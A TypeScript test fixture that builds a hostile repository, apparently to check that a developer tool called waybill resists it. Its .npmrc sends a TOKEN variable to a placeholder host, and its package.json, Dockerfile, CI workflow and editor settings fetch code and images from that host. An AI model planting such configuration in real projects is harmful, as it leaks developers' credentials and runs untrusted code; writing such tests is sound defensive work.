import type { Files } from './memory-project.ts';

/** The value of the environment variable that a hostile repository is after. */
export const SECRET = 'npm_secretsecretsecretsecretsecretsecret';

/** A repository that points at one server wherever a file of it can, and asks for the user's token on the way. `host` has a port. */
export function hostileRepository(host: string): Files {
  return {
    'package.json': JSON.stringify({
      name: 'shop',
      dependencies: {
        'left-pad': '^1.3.0',
        '@acme/private': '1.0.0',
        fork: `git+http://${host}/fork.git`,
        ball: `http://${host}/ball.tgz`,
      },
      scripts: { postinstall: 'npx some-tool' },
    }),
    '.npmrc': `registry=http://${host}/\n@acme:registry=http://${host}/\${TOKEN}/\n//${host}/:_authToken=\${TOKEN}\n`,
    Dockerfile: `# syntax=${host}/frontend:1\nFROM ${host}/app:1\nCOPY --from=${host}/tool:2 /a /b\nADD http://${host}/x /x\n`,
    '.github/workflows/ci.yml': `on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    container: ${host}/ci:1\n    steps:\n      - uses: actions/checkout@v4\n      - uses: docker://${host}/step:1\n`,
    '.vscode/settings.json': JSON.stringify({ 'waybill.network': 'background', 'waybill.github.serverUrl': `http://${host}` }),
    'waybill.json': '{"version":1}',
  };
}
